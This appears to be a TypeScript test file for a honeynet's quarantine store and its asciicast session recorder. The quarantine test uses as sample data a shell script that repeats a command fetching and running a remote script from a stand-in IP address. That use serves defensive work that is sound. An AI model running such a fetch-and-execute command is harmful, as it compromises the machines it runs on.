import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { AsciicastRecorder } from '../../../src/honeynet/runtime/asciicast.js';
import { Quarantine } from '../../../src/honeynet/runtime/quarantine.js';

const dir = mkdtempSync(join(tmpdir(), 'lnmt-quarantine-'));
after(() => rmSync(dir, { recursive: true, force: true }));
const sha = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');

describe('quarantine', () => {
  it('keeps a file named by its sha256, read-only and not executable, streamed in chunks', async () => {
    const q = new Quarantine({ dir: join(dir, 'q1'), maxFileBytes: 1 << 20, maxTotalBytes: 1 << 30 });
    const body = Buffer.from('#!/bin/sh\nwget http://203.0.113.9/x.sh | sh\n'.repeat(100));
    const w = await q.begin();
    for (let i = 0; i < body.length; i += 333) await w.write(body.subarray(i, i + 333));
    const f = await w.finish();
    assert.equal(f.sha256, sha(body));
    assert.equal(f.size, body.length);
    assert.equal(f.truncated, false);
    assert.equal(f.path, join(dir, 'q1', f.sha256));
    assert.equal(statSync(f.path!).mode & 0o777, 0o400);
    assert.deepEqual(readFileSync(f.path!), body);
    // The same content again is the same file; no temp files are left.
    const again = await q.keep(body);
    assert.equal(again.path, f.path);
    assert.deepEqual(readdirSync(join(dir, 'q1')), [f.sha256]);
  });

  it('stops at the per-file cap (hash of the kept prefix) and keeps nothing past the total cap', async () => {
    const q = new Quarantine({ dir: join(dir, 'q2'), maxFileBytes: 1024, maxTotalBytes: 1024 * 1024 + 10 });
    const big = Buffer.alloc(100 * 1024 * 1024 / 100, 7); // 1 MiB
    const w = await q.begin();
    for (let i = 0; i < 100; i++) await w.write(big); // 100 MiB offered
    const f = await w.finish();
    assert.equal(f.size, 1024);
    assert.equal(f.truncated, true);
    assert.equal(f.sha256, sha(big.subarray(0, 1024)));
    const q3 = new Quarantine({ dir: join(dir, 'q3'), maxFileBytes: 2 * 1024 * 1024, maxTotalBytes: 1024 * 1024 });
    const kept = await q3.keep(Buffer.alloc(1000 * 1024, 1));
    assert.ok(kept.path);
    const over = await q3.keep(Buffer.alloc(100 * 1024, 2));
    assert.equal(over.path, null, 'over the total cap: hashed, not kept');
    assert.equal(over.sha256, sha(Buffer.alloc(100 * 1024, 2)));
  });

  it('drops an aborted upload', async () => {
    const q = new Quarantine({ dir: join(dir, 'q4'), maxFileBytes: 1024, maxTotalBytes: 1 << 20 });
    const w = await q.begin();
    await w.write(Buffer.from('partial'));
    await w.abort();
    assert.deepEqual(readdirSync(join(dir, 'q4')), []);
  });
});

describe('asciicast recorder', () => {
  it('writes asciicast v2: a header, then timed output and input events', async () => {
    let now = 1_700_000_000_000;
    const path = join(dir, 'rec', 's1.cast');
    const r = new AsciicastRecorder(path, { width: 80, height: 24, title: 'ssh root@web-02' }, 1 << 20, () => now);
    r.output('root@web-02:~# ');
    now += 1500;
    r.input('uname -a\r');
    now += 20;
    r.output('Linux web-02 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC x86_64 GNU/Linux\r\n');
    await r.close();
    const lines = readFileSync(path, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as unknown);
    assert.deepEqual(lines[0], { version: 2, width: 80, height: 24, timestamp: 1_700_000_000, title: 'ssh root@web-02', env: { TERM: 'xterm-256color', SHELL: '/bin/bash' } });
    assert.deepEqual(lines.slice(1), [[0, 'o', 'root@web-02:~# '], [1.5, 'i', 'uname -a\r'], [1.52, 'o', 'Linux web-02 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC x86_64 GNU/Linux\r\n']]);
    assert.equal(statSync(path).mode & 0o777, 0o600);
  });

  it('stops at its size cap with a marker', async () => {
    const path = join(dir, 'rec', 's2.cast');
    const r = new AsciicastRecorder(path, { width: 80, height: 24, title: 't' }, 4096);
    for (let i = 0; i < 1000; i++) r.output('x'.repeat(100));
    await r.close();
    const text = readFileSync(path, 'utf8');
    assert.ok(text.length < 4096 + 200, `${text.length} bytes`);
    assert.match(text, /recording truncated at the size limit/);
  });
});
